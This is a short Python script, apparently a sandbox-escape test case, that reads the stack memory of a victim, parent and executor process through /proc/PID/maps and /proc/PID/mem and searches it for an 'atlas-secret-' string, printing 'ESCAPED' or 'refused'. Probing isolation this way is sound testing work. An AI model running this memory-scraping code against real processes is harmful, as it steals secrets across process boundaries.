"""Reads and writes other processes through /proc/PID/mem. Success: the victim's secret is printed."""

import json
import os

targets = json.loads(input())
for pid in (targets["victim"], os.getppid(), targets["executor"], "self"):
    try:
        with open(f"/proc/{pid}/maps") as file:
            places = [line.split()[0].split("-") for line in file if "[stack]" in line]
        with open(f"/proc/{pid}/mem", "r+b", buffering=0) as memory:
            for first, last in places:
                memory.seek(int(first, 16))
                data = memory.read(int(last, 16) - int(first, 16))
                print("ESCAPED: read", pid)
                at = data.find(b"atlas-secret-")
                if at >= 0:
                    print(data[at : at + 64].split(b"\0")[0].decode())
    except (OSError, ValueError) as error:
        print("refused:", error)
print("done")
